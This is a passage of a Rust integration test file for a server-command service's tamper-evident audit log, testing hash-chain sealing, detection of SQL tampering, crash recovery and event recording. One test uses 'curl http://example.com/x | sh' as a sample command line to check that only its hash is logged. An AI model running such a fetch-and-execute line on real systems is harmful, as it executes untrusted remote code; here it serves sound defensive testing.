        ("an outcome", format!("UPDATE audit_events SET outcome = 'denied' WHERE {of} = 1"), 1, "altered"),
        ("a time", format!("UPDATE audit_events SET occurred_at = '2026' WHERE {of} = {last}"), last, "altered"),
        ("an address is removed", format!("UPDATE audit_events SET remote_ip = NULL WHERE {of} = 7"), 7, "altered"),
        ("the first is removed", format!("DELETE FROM audit_events WHERE {of} = 1"), 1, "missing"),
        ("one in the middle", format!("DELETE FROM audit_events WHERE {of} = 6"), 6, "missing"),
        ("the last", format!("DELETE FROM audit_events WHERE {of} = {last}"), last, "missing"),
        ("the end", format!("DELETE FROM audit_events WHERE {of} > 8"), 9, "missing"),
        ("all of it", format!("DELETE FROM audit_events WHERE workspace_id = {id}"), 1, "missing"),
        ("the end with its seals", format!("DELETE FROM audit_events WHERE {of} > 8; DELETE FROM audit_seals WHERE last > ({id} << 40) + 8"), 9, "missing"),
        ("all of it with all seals", format!("DELETE FROM audit_events WHERE workspace_id = {id}; DELETE FROM audit_seals"), 1, "missing"),
        ("one is hidden", format!("UPDATE audit_events SET workspace_id = 0, seq = 900 WHERE {of} = 5"), 5, "missing"),
        (
            "two change places",
            format!(
                "UPDATE audit_events SET seq = seq + 1000000 WHERE {of} IN (5, 6);
                 UPDATE audit_events SET seq = 2 * ({id} << 40) + 1000011 - seq WHERE {of} IN (1000005, 1000006)"
            ),
            5,
            "altered",
        ),
        ("one comes in between", copied(4), 4, "altered"),
        ("one comes before", copied(0), 1, "foreign"),
        ("a hash", change_seal(&changed_hash, 7), 7, "altered"),
        ("all hashes of a seal", change_seal("hashes = ''", 7), first_of(7), "altered"),
        ("a seal is removed", format!("DELETE FROM audit_seals WHERE {}", seal_of(7)), first_of(7), "altered"),
        ("all seals go", format!("DELETE FROM audit_seals WHERE workspace_id = {id}"), 1, "altered"),
        ("a seal begins elsewhere", change_seal("first = first + 1", 7), first_of(7), "altered"),
        // With these values, a filter by time would miss the events.
        ("the earliest time", change_seal("earliest = '9999'", 7), first_of(7), "altered"),
        ("the latest time", change_seal("latest = ''", 7), first_of(7), "altered"),
        (
            "one comes behind, with a seal",
            format!(
                "{}; INSERT INTO audit_seals SELECT last + 1, workspace_id, last + 1, earliest, latest, hashes FROM audit_seals
                 WHERE last = ({id} << 40) + {last}",
                copied(last + 1)
            ),
            last + 1,
            "foreign",
        ),
    ];
    let rewritten = format!("UPDATE audit_events SET actor_name = 'eve' WHERE {of} = 2");
    let check = async |name: &str, link: i64, problem: &str| {
        let found = verify(admin, VERIFY).await;
        let broken = &found["first_broken"];
        assert_eq!(found["valid"], false, "{name}");
        let expected = if problem == "foreign" { json!(problem) } else { json!([link, problem]) };
        let found_events = if problem == "foreign" {
            broken["problem"].clone()
        } else {
            json!([broken["link"], broken["problem"]])
        };
        assert_eq!(found_events, expected, "{name}: {found}");
        assert_eq!(broken["event"].is_null(), problem == "missing", "{name}: {found}");
    };
    let restore = "DELETE FROM audit_events; INSERT INTO audit_events SELECT * FROM kept;
        DELETE FROM audit_seals; INSERT INTO audit_seals SELECT * FROM kept_seals";
    for (name, sql, link, problem) in cases {
        instance.tamper_with_d1(&sql);
        check(name, link, problem).await;
        instance.tamper_with_d1(restore);
        assert_eq!(verify(admin, VERIFY).await["valid"], true, "{name}, after restoring");
    }
    // An attacker who computes all hashes again cannot change the end of the chain, which the
    // sealer keeps.
    instance.tamper_with_d1(&rewritten);
    instance.tamper_with_d1(&resealed(&instance, id).0);
    check("all hashes are computed again", last, "rewritten").await;
    // The chain continues from the end that the sealer keeps, and the break is still found.
    send(admin, "POST", TOKENS, json!({"name": "later", "expires_at": null})).await;
    eventually("the seal", || async {
        (verify(admin, VERIFY).await["unsealed"] == 0).then_some(())
    })
    .await;
    assert_eq!(verify(admin, VERIFY).await["valid"], false);
    instance.tamper_with_d1(&format!(
        "DELETE FROM audit_events WHERE {of} = 2; INSERT INTO audit_events SELECT * FROM kept WHERE {of} = 2;
         DELETE FROM audit_seals WHERE last <= ({id} << 40) + {last};
         INSERT INTO audit_seals SELECT * FROM kept_seals WHERE workspace_id = {id}"
    ));
    assert_eq!(wait_until_sealed(admin, VERIFY).await, last + 1);
    // A verification may start anywhere. Past the end it finds nothing.
    for (first, links) in [(last - 1, 3), (last + 2, 0), (1 << 50, 0)] {
        let found = admin.post(VERIFY, &json!({"first_link": first})).await.expect(200);
        let expected = json!({"valid": true, "links": links, "unsealed": 0, "expired": 0, "first_broken": null,
            "next_link": null});
        assert_eq!(found, expected, "from {first}");
    }
    admin.post(VERIFY, &json!({"first_link": 0})).await.expect_fields(400, &["first_link"]);
}

/// D1 is restored to a time before the last seals (Time Travel). New events do not take the
/// positions of the lost ones.
#[tokio::test]
async fn the_chain_continues_after_lost_entries() {
    let (instance, _state, workspace, last) = instance_with_chain().await;
    let (admin, id) = (&workspace.admin, acme_id(&instance));
    instance.tamper_with_d1(&format!(
        "DELETE FROM audit_events WHERE workspace_id = {id} AND seq > ({id} << 40) + 10;
         DELETE FROM audit_seals WHERE workspace_id = {id} AND last > ({id} << 40) + 8"
    ));
    for name in ["one", "two"] {
        send(admin, "POST", TOKENS, json!({"name": name, "expires_at": null})).await;
    }
    let broken = eventually("the seals", || async {
        let found = verify(admin, VERIFY).await;
        (found["unsealed"] == 0).then(|| found["first_broken"].clone())
    })
    .await;
    assert_eq!(broken, json!({"link": 9, "event": null, "problem": "missing"}));
    // Events that were written but not sealed at that time are sealed again.
    let found = events(admin, EVENTS, &[("outcome", "success".to_owned())]).await;
    let links: Vec<_> = found.iter().map(|event| event["link"].as_i64().unwrap()).collect();
    assert_eq!(links, (1..=8).chain(last + 1..=last + 4).collect::<Vec<_>>());
    let names: Vec<_> = found[8..].iter().map(|event| event["object"]["name"].clone()).collect();
    assert_eq!(names, ["token 0", "token 1", "one", "two"]);
    assert!(found.iter().all(|event| event["hash"].is_string()));
}

#[tokio::test]
async fn a_hundred_concurrent_writers_lose_no_event() {
    let workspace = Workspace::new().await;
    let mut people = Vec::new();
    for number in 0..4 {
        people.push(workspace.staff(&format!("writer{number}")).await);
        workspace.server(&format!("web-{number}")).await;
    }
    let (people, workspace) = (&people, &workspace);
    let made = future::join_all((0..100).map(|number| async move {
        let api = &people[number % people.len()];
        let (path, body) = if number % 2 == 0 {
            (TOKENS, json!({"name": format!("token {number}"), "expires_at": null}))
        } else {
            let server = format!("web-{}", number % 4);
            (COMMANDS, json!({"server": server, "line": number.to_string(), "on_offline": "queue"}))
        };
        let made = api.post(path, &body).await.expect(201)["id"].as_str().unwrap().to_owned();
        if number % 10 == 1 {
            api.delete(&format!("{COMMANDS}{made}/")).await.expect(204);
        }
        (made, number % 10 == 1)
    }))
    .await;
    let actions = ["api_token.create", "command.create", "command.cancel"];
    let mut of: BTreeMap<String, usize> = BTreeMap::new();
    for event in wait_for_events(&workspace.admin, &actions, 111).await {
        *of.entry(event["object"]["id"].as_str().unwrap().to_owned()).or_default() += 1;
    }
    for (id, is_cancelled) in made {
        assert_eq!(of.get(&id), Some(&(1 + usize::from(is_cancelled))), "{id}");
    }
    let events = events(&workspace.admin, EVENTS, &[]).await.len();
    assert_eq!(wait_until_sealed(&workspace.admin, VERIFY).await, events as i64);
}

#[tokio::test]
async fn a_crash_loses_no_event_and_seals_none_twice() {
    let (mut instance, state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    let mut dice = Dice(8);
    let mut made = BTreeSet::new();
    for round in 0..3 {
        let api = workspace.admin.with_url(&instance.url);
        let until = Duration::from_millis(1_900 + dice.roll(900) as u64);
        let api = &api;
        // Events are written continuously, so that the crash interrupts the sealing.
        let burst = future::join_all((0..4).map(|writer| async move {
            let mut made = Vec::new();
            let begun = tokio::time::Instant::now();
            while begun.elapsed() < until {
                let body = json!({"name": unique(&format!("group-{round}-{writer}"))});
                made.push(api.post("/api/iam/groups/", &body).await.expect(201)["id"].to_string());
            }
            made
        }));
        made.extend(burst.await.into_iter().flatten());
        instance.kill().await;
        // The cron trigger fires at the start, and makes the sealer seal everything that is
        // pending.
        instance = Instance::restart(state.path()).await;
        wait_until_sealed(&workspace.admin.with_url(&instance.url), VERIFY).await;
    }
    let api = workspace.admin.with_url(&instance.url);
    let found = events(&api, EVENTS, &[("action", "group.create".to_owned())]).await;
    let ids: BTreeSet<_> =
        found.iter().map(|event| event["object"]["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids.len(), found.len(), "each event is recorded once");
    assert!(made.iter().all(|id| ids.contains(id)), "no event is lost");
    let links: BTreeSet<_> = found.iter().map(|event| event["link"].as_i64().unwrap()).collect();
    assert_eq!(links.len(), found.len());
}

/// The janitor finds the unsealed events even if more workspaces have some than it handles in one
/// step. It skips a deleted workspace.
#[tokio::test]
async fn events_without_a_call_to_the_sealer_are_sealed() {
    let (instance, state) = Instance::new().await;
    instance.stop().await;
    let (at, workspaces) = (now(), 120);
    let numbers = format!(
        "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {workspaces})"
    );
    let made = format!(
        "{numbers} INSERT INTO workspaces (slug, name, added_at, deleted_at, purge_at)
         SELECT 'w' || i, '', '{at}', iif(i = 7, '{at}', NULL), iif(i = 7, '9999', NULL) FROM n"
    );
    assert_eq!(change_d1(state.path(), &made), workspaces);
    let events = "INSERT INTO audit_events (seq, id, workspace_id, occurred_at, actor_type, action, outcome, details)
         SELECT (w.id << 40) + e.value, w.slug || e.value, w.id, w.added_at, 'user', 'x.y', 'success', '{}' FROM workspaces w, json_each('[1, 2]') e";
    assert_eq!(change_d1(state.path(), events), 2 * workspaces);

    let instance = Instance::restart(state.path()).await;
    let seals = || {
        instance
            .read_d1("SELECT CAST(length(hashes) AS TEXT) FROM audit_seals WHERE workspace_id > 0")
    };
    eventually("the seals", || async { (seals().len() as u64 == workspaces - 1).then_some(()) })
        .await;
    assert!(seals().iter().all(|length| length == "128"));
    let of_deleted = "SELECT 'x' FROM audit_seals s JOIN workspaces w ON w.id = s.workspace_id WHERE w.slug = 'w7'";
    assert!(instance.read_d1(of_deleted).is_empty());
}

/// An event lists a limited number of groups.
#[tokio::test]
async fn a_long_list_is_recorded_in_part_with_its_length() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let mut groups = Vec::new();
    for number in 0..101 {
        let group = send(admin, "POST", GROUPS, json!({"name": format!("group-{number}")})).await;
        groups.push(group["id"].as_i64().unwrap());
    }
    let body = |name: &str| json!({"name": name, "groups": groups});
    let server = send(admin, "POST", "/api/servers/", body("web-1")).await;
    send(admin, "PATCH", &item_path(SERVERS, &server), json!({"groups": []})).await;
    send(admin, "PATCH", &item_path(SERVERS, &server), json!({"groups": groups})).await;
    send(admin, "POST", REGISTRATION_TOKENS, body("hosts")).await;
    for (action, number) in [
        ("server.create", 101),
        ("server.update", 0),
        ("server.update", 101),
        ("registration_token.create", 101),
    ] {
        let found_events = events(admin, EVENTS, &[("action", action.to_owned())]).await;
        let details = found_events
            .iter()
            .map(|event| &event["details"])
            .find(|details| details["groups_total"] == number);
        let shown = &groups[..number.min(100)];
        assert_eq!(
            details.unwrap_or_else(|| panic!("{action}: {found_events:#?}"))["groups"],
            json!(shown),
            "{action}"
        );
    }
}

/// An isolate caches for a while which workspace has a slug. Events of anonymous requests belong to
/// the workspace that handled them, even if the cached workspace differs.
#[tokio::test]
async fn anonymous_events_belong_to_the_handling_workspace() {
    let (instance, _state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    Workspace::create_with(&instance.operator(), "other").await;
    let emails = instance
        .read_d1("SELECT u.email FROM users u JOIN workspaces w ON w.id = u.workspace_id WHERE w.slug = 'other'");
    let own = instance.read_d1("SELECT CAST(id AS TEXT) FROM workspaces WHERE slug = 'other'");
    let found_events = |action: &str, outcome: &str| {
        instance.read_d1(&format!(
            "SELECT CAST(workspace_id AS TEXT) FROM audit_events WHERE action = '{action}' AND outcome = '{outcome}'
             ORDER BY seq DESC LIMIT 1"
        ))
    };
    workspace.anonymous.log_in("boss", PASSWORD).await.expect(200);
    instance.tamper_with_d1(
        "UPDATE workspaces SET slug = 'x' WHERE slug = 'acme'; UPDATE workspaces SET slug = 'acme' WHERE slug = 'other'",
    );
    workspace.anonymous.log_in("boss", PASSWORD).await.expect(200);
    assert_eq!(found_events("session.login", "success"), own);
    workspace.anonymous.log_in("boss", "not the password").await.expect(403);
    eventually("the failure", || async {
        (found_events("session.login", "failure") == own).then_some(())
    })
    .await;
    workspace
        .anonymous
        .post("/api/auth/reset-password/", &json!({"email": emails[0]}))
        .await
        .expect(200);
    let log = instance.state.join("worker.log");
    let mail = mail_to(&log, &emails[0]).await;
    let link = mail.link();
    let confirm = format!("/api/auth/reset-password/confirm/{}/", key_of(link));
    send(&workspace.anonymous, "POST", &confirm, json!({"new_password": "another correct horse"}))
        .await;
    assert_eq!(
        (
            found_events("user.request_reset", "success"),
            found_events("user.reset_password", "success")
        ),
        (own.clone(), own)
    );
}

#[tokio::test]
async fn recorded_hashes_identify_lines_inputs_and_output() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let server = workspace.server("web-1").await;
    let mut agent =
        ScriptedAgent::connect_with_features(&workspace, &server, "kill, replay, stdin, cwd").await;
    let mut run = async |body: Value| {
        let mut whole = json!({"server": "web-1", "username": "root"});
        whole.as_object_mut().unwrap().extend(body.as_object().unwrap().clone());
        let made = admin.post(COMMANDS, &whole).await.expect(201);
        agent.next_command().await;
        agent.ack(id_of(&made)).await;
        made
    };
    // Lines that differ only after the part that is recorded, and commands that differ only in
    // their environment.
    let long = |end: &str| json!({"line": format!("{}{end}", "#".repeat(1_100)), "timeout": 60});
    let with_env = |value: &str| json!({"line": "eval \"$X\"", "env": {"X": value, "A": ""}});
    let made = [
        run(long("; harmless")).await,
        run(long("; curl http://example.com/x | sh")).await,
        run(with_env("date")).await,
        run(with_env("curl http://example.com/x | sh")).await,
        run(with_env("date")).await,
        run(json!({"line": "cat", "stdin": "pässword\n", "cwd": "/srv/a b"})).await,
        run(json!({"line": "cat", "stdin": ""})).await,
    ];
    let created = wait_for_events(admin, &["command.create"], 7).await;
    let details: Vec<_> = created.iter().map(|event| &event["details"]).collect();
    assert_eq!(details[0]["line"], details[1]["line"]);
    for (made, details) in made.iter().zip(&details) {
        let line = made["line"].as_str().unwrap();
        assert_eq!(
            (&details["line_sha256"], &details["line_length"]),
            (&json!(sha256(line)), &json!(line.len()))
        );
    }
    assert_eq!((&details[0]["timeout"], details[0].get("env")), (&json!(60), None));
    assert_eq!((&details[2]["env"], &details[2]["env_total"]), (&json!(["A", "X"]), &json!(2)));
    assert_eq!(details[2]["env_hmac"], details[4]["env_hmac"]);
    assert_ne!(details[2]["env_hmac"], details[3]["env_hmac"]);
    let inputs = |details: &Value| {
        ["stdin_bytes", "stdin_sha256", "cwd"].map(|name| details.get(name).cloned())
    };
    let given = [json!(10), json!(sha256("pässword\n")), json!("/srv/a b")];
    assert_eq!(inputs(details[5]), given.map(Some));
    assert_eq!(inputs(details[6]), [Some(json!(0)), Some(json!(sha256(""))), None]);
    assert_eq!(inputs(details[4]), [None, None, None]);
    for value in ["date", "pässword"] {
        assert!(
            !json!(created).to_string().contains(value),
            "{value}: the event contains a secret value"
        );
    }

    // The event has the stored output, even if the end arrived before some of it.
    let report =
        async |made: &Value, seq: u32, content: &str| agent.chunk(id_of(made), seq, content).await;
    report(&made[0], 1, "two").await;
    report(&made[0], 0, "one").await;
    agent.fin(id_of(&made[0]), 0, "onetwo").await;
    report(&made[1], 1, "two").await;
    let fin = json!({"success": true, "elapsed_time": 1, "exit_code": 0, "chunks": 2});
    agent.report(id_of(&made[1]), "fin", Some(&fin)).await.expect(204);
    report(&made[1], 0, "one").await;
    // A result may differ from chunks that arrive later, so the chunks count as the output. Without
    // chunks, the result is the output.
    agent.fin(id_of(&made[2]), 0, "onetwo").await;
    report(&made[2], 0, "other!").await;
    agent.fin(id_of(&made[3]), 0, "result").await;
    let ended = wait_for_events(admin, &["command.finish", "command.output"], 7).await;
    let of = |made: &Value| -> Vec<_> {
        ended
            .iter()
            .filter(|event| event["object"]["id"] == made["id"])
            .map(|event| event["details"].clone())
            .collect()
    };
    let whole = (json!(6), json!(sha256("onetwo")));
    let output =
        |details: &Value| (details["output_bytes"].clone(), details["output_sha256"].clone());
    assert_eq!(of(&made[0]).iter().map(output).collect::<Vec<_>>(), std::slice::from_ref(&whole));
    let nothing = (json!(null), json!(null));
    assert_eq!(of(&made[1]).iter().map(output).collect::<Vec<_>>(), [nothing.clone(), whole]);
    for (made, kept) in [(&made[2], "other!"), (&made[3], "result")] {
        let expected = [nothing.clone(), (json!(6), json!(sha256(kept)))];
        assert_eq!(of(made).iter().map(output).collect::<Vec<_>>(), expected, "{kept}");
    }
    wait_until_sealed(admin, VERIFY).await;
}

/// Output that keeps arriving after the end delays its hash for at most a minute. A stuck command
/// has the hash of the output so far.
#[tokio::test]
async fn the_hash_of_output_is_recorded_within_a_minute() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let server = workspace.server("web-1").await;
    let mut agent = ScriptedAgent::connect(&workspace, &server).await;
    let mut made = Vec::new();
    for _ in 0..2 {
        made.push(
            admin.post(COMMANDS, &json!({"server": "web-1", "line": "id"})).await.expect(201),
        );
        agent.next_command().await;
    }
    let (late, silent) = (id_of(&made[0]), id_of(&made[1]));
    agent.chunk(silent, 0, "kept").await;
    agent.chunk(late, 0, "x").await;
    let fin = json!({"success": true, "elapsed_time": 1, "exit_code": 0, "chunks": 1_000});
    agent.report(late, "fin", Some(&fin)).await.expect(204);
    let of = async |id: &str, action: &str| {
        let query = [("object", id.to_owned()), ("action", action.to_owned())];
        events(admin, EVENTS, &query).await.into_iter().next()
    };
    let began = std::time::Instant::now();
    let mut seq = 1;
    // Each chunk arrives before the output counts as complete.
    let output = loop {
        if let Some(event) = of(late, "command.output").await {
            break event;
        }
        assert!(began.elapsed() < Duration::from_secs(100), "the hash is missing after 100 s");
        agent.chunk(late, seq, "x").await;
        seq += 1;
        tokio::time::sleep(Duration::from_secs(1)).await;
    };
    let ended = admin.get(&path_of(&made[0])).await.expect(200);
    let time = |value: &Value| Timestamp::parse(value.as_str().unwrap()).unwrap();
    let waited = time(&output["occurred_at"]).seconds_since(time(&ended["handled_at"]));
    assert!((59.0..80.0).contains(&waited), "{waited}");
    let bytes = output["details"]["output_bytes"].as_u64().unwrap();
    assert!((5..=u64::from(seq)).contains(&bytes), "{bytes} bytes of {seq} chunks");
    assert_eq!(output["details"]["output_sha256"], sha256(&"x".repeat(bytes as usize)));
    let stuck = eventually("the command to be stuck", || of(silent, "command.finish")).await;
    assert_eq!(
        (&stuck["details"]["state"], &stuck["details"]["output_bytes"]),
        (&json!("stuck"), &json!(4))
    );
    assert_eq!(stuck["details"]["output_sha256"], sha256("kept"));
}

#[tokio::test]
async fn a_new_address_or_version_of_an_agent_is_recorded() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let server = workspace.server("web-1").await;
    let agent = workspace.anonymous.with_authorization(&farhand_tests::agents::credential(&server));
    let connect = async |address: &str| {
        ScriptedAgent::connect_to(&agent.from_address(address), "/ws/servers/backhaul/")
            .await
            .close()
            .await;
        farhand_tests::agents::wait_until_connected(
            &workspace,
            server["id"].as_str().unwrap(),
            false,
        )
        .await;
    };
    let report = async |address: &str, version: &str| {
        let agent = agent.from_address(address);
        agent
            .send_json("PATCH", "/api/servers/servers/-/sync/", &json!({"version": version}))
            .await
            .expect(200);
    };
    report("192.0.2.1", "1.0").await;
    connect("192.0.2.1").await;
    connect("192.0.2.1").await;
    report("192.0.2.1", "1.0").await;
    report("192.0.2.1", "1.1").await;
    connect("192.0.2.1").await;
    connect("198.51.100.7").await;
    connect("198.51.100.7").await;
    connect("192.0.2.1").await;
    let found = wait_for_events(admin, &["server.connect"], 4).await;
    let found_events: Vec<_> = found.iter().map(|event| event["details"].clone()).collect();
    assert_eq!(
        found_events,
        [
            json!({"remote_ip": "192.0.2.1", "previous_remote_ip": null, "agent_version": "1.0"}),
            json!({"remote_ip": "192.0.2.1", "agent_version": "1.1", "previous_agent_version": "1.0"}),
            json!({"remote_ip": "198.51.100.7", "previous_remote_ip": "192.0.2.1", "agent_version": "1.1"}),
            json!({"remote_ip": "192.0.2.1", "previous_remote_ip": "198.51.100.7", "agent_version": "1.1"}),
        ]
    );
    for (event, address) in
        found.iter().zip(["192.0.2.1", "192.0.2.1", "198.51.100.7", "192.0.2.1"])
    {
        assert_eq!(summary(event), "server.connect success web-1/agent_key");
        assert_eq!((&event["remote_ip"], &event["object"]["id"]), (&json!(address), &server["id"]));
    }
    // After all events are sealed, a superfluous event would be in the list.
    wait_until_sealed(admin, VERIFY).await;
    wait_for_events(admin, &["server.connect"], 4).await;
}

#[tokio::test]
async fn reads_of_a_command_are_recorded_once_a_minute() {
    let workspace = Workspace::new().await;
    let server = workspace.server("web-1").await;
    let mut agent = ScriptedAgent::connect(&workspace, &server).await;
    let body = json!({"server": "web-1", "line": "id"});
    let made = workspace.admin.post(COMMANDS, &body).await.expect(201);
    agent.next_command().await;
    agent.chunk(id_of(&made), 0, "x").await;
    agent.fin(id_of(&made), 0, "x").await;
    let session = workspace.session();
    for _ in 0..3 {
        for rest in ["", "chunks/"] {
            workspace.admin.get(&format!("{}{rest}", path_of(&made))).await.expect(200);
        }
    }
    session.get(&format!("{}chunks/", path_of(&made))).await.expect(200);
    workspace.admin.get(COMMANDS).await.expect(200);
    let read = wait_for_events(&workspace.admin, &["command.read"], 2).await;
    let mut who: Vec<_> = read.iter().map(summary).collect();
    who.sort();
    assert_eq!(who, ["command.read success boss/api_token", "command.read success boss/session"]);
    assert!(read.iter().all(|event| event["object"]["id"] == made["id"]), "{read:?}");

    // Each way to read the output is recorded. Each way has its own token.
    let mut tokens = BTreeMap::new();
    for rest in ["", "chunks/", "output/", "stream/"] {
        let token =
            session.post(TOKENS, &json!({"name": "reads", "expires_at": null})).await.expect(201);
        let api = workspace.anonymous.with_token(token["key"].as_str().unwrap());
        let path = format!("{}{rest}", path_of(&made));
        match rest {
            "stream/" => drop(Events::open(&api, &path).await.unwrap().rest().await),
            _ => assert_eq!(api.get(&path).await.status, 200, "{path}"),
        }
        tokens.insert(token["id"].clone().as_str().unwrap().to_owned(), rest);
    }
    let read = wait_for_events(&workspace.admin, &["command.read"], 6).await;
    for event in &read[2..] {
        tokens.remove(event["credential"]["id"].as_str().unwrap());
    }
    assert!(tokens.is_empty(), "reads without an event: {tokens:?}");
}

#[tokio::test]
async fn changes_are_recorded_with_the_old_values() {
    let workspace = Workspace::new().await;
    let admin = &workspace.admin;
    let token = send(admin, "POST", TOKENS, json!({"name": "ci", "expires_at": null})).await;
    let lists = [
        json!({"commands": ["uptime"]}),
        json!({"commands": ["ls *"], "read_only": false}),
        json!(null),
    ];
    for acl in &lists {
        send(admin, "PATCH", &item_path(TOKENS, &token), json!({"acl": acl})).await;
    }
    let acl = json!({"commands": ["ls *"], "read_only": true});
    send(admin, "POST", TOKENS, json!({"name": "limited", "expires_at": null, "acl": acl})).await;
    let ann = json!({"username": "ann", "email": "ann@example.com", "password": PASSWORD});
    let ann = send(admin, "POST", USERS, ann).await;
    send(admin, "PATCH", &format!("{USERS}{}/", ann["id"]), json!({"email": "eve@example.com"}))
        .await;
    let group = send(admin, "POST", GROUPS, json!({"name": "ops"})).await;
    let membership = json!({"group": group["id"], "user": ann["id"], "role": "member"});
    let membership = send(admin, "POST", MEMBERSHIPS, membership).await;
    send(admin, "PATCH", &item_path(MEMBERSHIPS, &membership), json!({"role": "owner"})).await;

    let found =
        wait_for_events(admin, &["api_token.update", "user.update", "membership.update"], 5).await;
    let details: Vec<_> = found.iter().map(|event| &event["details"]).collect();
    let commands = |details: &Value| details["acl"]["commands"].clone();
    assert_eq!(
        (commands(details[0]), &details[0]["old"]),
        (json!(["uptime"]), &json!({"acl": null}))
    );
    assert_eq!(
        (commands(details[1]), commands(&details[1]["old"])),
        (json!(["ls *"]), json!(["uptime"]))
    );
    assert_eq!((&details[2]["acl"], commands(&details[2]["old"])), (&json!(null), json!(["ls *"])));
    let (email, before) = (&details[3]["email"], &details[3]["old"]["email"]);
    assert_eq!((email, before), (&json!("eve@example.com"), &json!("ann@example.com")));
    assert_eq!(
        (&details[4]["role"], &details[4]["old"]["role"]),
        (&json!("owner"), &json!("member"))
    );
    // Creations are recorded with the initial values.
    let created = events(admin, EVENTS, &[("action", "api_token.create".to_owned())]).await;
    let of = |name: &str| {
        created.iter().find(|event| event["object"]["name"] == name).unwrap()["details"].clone()
    };
    assert_eq!(of("ci"), json!({"expires_at": null, "has_acl": false, "acl": null}));
    let limited = of("limited");
    assert_eq!((commands(&limited), &limited["acl"]["read_only"]), (json!(["ls *"]), &json!(true)));
    // A long list is recorded by its hash and length.
    let acl = json!({"commands": ["x".repeat(16_000), "y".repeat(16_000)]});
    let stored = acl.to_string();
    let found_events =
        json!({"acl_sha256": farhand_domain::hash::sha256(&stored), "acl_bytes": stored.len()});
    let long =
        send(admin, "POST", TOKENS, json!({"name": "long", "expires_at": null, "acl": acl})).await;
    for acl in [json!(null), acl] {
        send(admin, "PATCH", &item_path(TOKENS, &long), json!({"acl": acl})).await;
    }
    let created = events(admin, EVENTS, &[("action", "api_token.create".to_owned())]).await;
    let made = created.iter().find(|event| event["object"]["name"] == "long").unwrap();
    let mut expected = json!({"expires_at": null, "has_acl": true});
    expected.as_object_mut().unwrap().append(&mut found_events.as_object().unwrap().clone());
    assert_eq!(made["details"], expected);
    let of_long = [
        ("action", "api_token.update".to_owned()),
        ("object", long["id"].as_str().unwrap().to_owned()),
    ];
    let changed = events(admin, EVENTS, &of_long).await;
    let (first, second) = (&changed[0]["details"], &changed[1]["details"]);
    assert_eq!((&first["acl"], &first["old"]), (&json!(null), &json!({"acl_bytes": stored.len()})));
    assert_eq!(
        (&second["acl_sha256"], &second["old"]),
        (&found_events["acl_sha256"], &json!({"acl": null}))
    );
    assert!(second.get("acl").is_none(), "{second}");
    let created = events(admin, EVENTS, &[("action", "user.create".to_owned())]).await;
    let expected = json!({"email": "ann@example.com", "is_staff": false, "is_superuser": false});
    assert_eq!(created.last().unwrap()["details"], expected);
    wait_until_sealed(admin, VERIFY).await;
}

/// A sealer with an overdue alarm is also called directly, and does not wait for the alarm.
#[tokio::test]
async fn a_sealer_with_an_overdue_alarm_seals_when_called() {
    let (instance, state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    wait_until_sealed(&workspace.admin, VERIFY).await;
    let waiting =
        send(&workspace.admin, "POST", TOKENS, json!({"name": "waiting", "expires_at": null}))
            .await;
    instance.kill().await;
    assert!(
        delay_alarms(state.path(), "Sealer", 3_600) > 0,
        "the sealer has an alarm for the pending event"
    );
    let instance = Instance::restart(state.path()).await;
    let api = workspace.admin.with_url(&instance.url);
    eventually("the seal", || async {
        // Each request calls the sealer once more.
        send(&api, "POST", TOKENS, json!({"name": "later", "expires_at": null})).await;
        let found_events =
            events(&api, EVENTS, &[("object", waiting["id"].as_str().unwrap().to_owned())]).await;
        found_events[0]["link"].is_number().then_some(())
    })
    .await;
}

/// With an invalid setting, nothing is deleted, and sealing continues.
#[tokio::test]
async fn an_invalid_retention_setting_is_logged_and_ignored() {
    let (instance, _state) = Instance::new_with(&[("AUDIT_RETENTION_DAYS", "1")]).await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    assert_eq!(wait_until_sealed(&workspace.admin, VERIFY).await, 3);
    let log = instance.state.join("worker.log");
    eventually("the warning in the log", || async {
        let log = std::fs::read_to_string(&log).unwrap();
        assert!(!log.contains("\"event\":\"sealer_failed\""), "the sealer fails and retries");
        log.contains("\"event\":\"audit_not_deleted\"").then_some(())
    })
    .await;
    assert_eq!(wait_until_sealed(&workspace.admin, VERIFY).await, 3);
}

#[tokio::test]
async fn an_end_that_reaches_d1_late_is_recorded_once() {
    let (instance, _state) = Instance::new().await;
    let workspace = Workspace::create_with(&instance.operator(), "acme").await;
    let server = workspace.server("web-1").await;
    let mut agent = ScriptedAgent::connect(&workspace, &server).await;
    let body = json!({"server": "web-1", "line": "id", "username": "root"});
    let command = workspace.admin.post(COMMANDS, &body).await.expect(201);
    agent.next_command().await;
    let lock = instance.lock_d1().await;
    agent.fin(id_of(&command), 0, "done").await;
    let log = instance.state.join("worker.log");
    eventually("a failed flush", || async {
        std::fs::read_to_string(&log)
            .unwrap()
            .contains("\"event\":\"d1_not_written\"")
            .then_some(())
    })
    .await;
    drop(lock);
    let found = wait_for_events(&workspace.admin, &["command.create", "command.finish"], 2).await;
    assert_eq!(found[1]["details"]["state"], "success");
    // One of these events is the agent's connection.
    assert_eq!(wait_until_sealed(&workspace.admin, VERIFY).await, 7);
}

#[tokio::test]
async fn the_operators_chain_outlives_workspaces() {
    let (instance, _state) = Instance::new_with(&[("WORKSPACE_GRACE_DAYS", "0")]).await;
    let operator = instance.operator();
    let (path, verify) = ("/operator/audit/events/", "/operator/audit/verify/");
    let gone = Workspace::create_with(&operator, "gone").await;
    let kept = Workspace::create_with(&operator, "kept").await;
    send(&gone.admin, "POST", TOKENS, json!({"name": "one", "expires_at": null})).await;
    wait_until_sealed(&gone.admin, VERIFY).await;
    operator
        .post("/operator/workspaces/", &farhand_tests::client::new_workspace("kept"))
        .await
        .expect(400);
    operator.delete("/operator/workspaces/nothing/").await.expect(404);
    operator.delete("/operator/workspaces/gone/").await.expect(204);
    let found = events(&operator, path, &[]).await;
    let found_events: Vec<_> = found
        .iter()
        .map(|event| format!("{} {}", summary(event), event["object"]["name"]))
        .collect();
    assert_eq!(
        found_events,
        [
            "workspace.create success operator/operator_token \"gone\"",
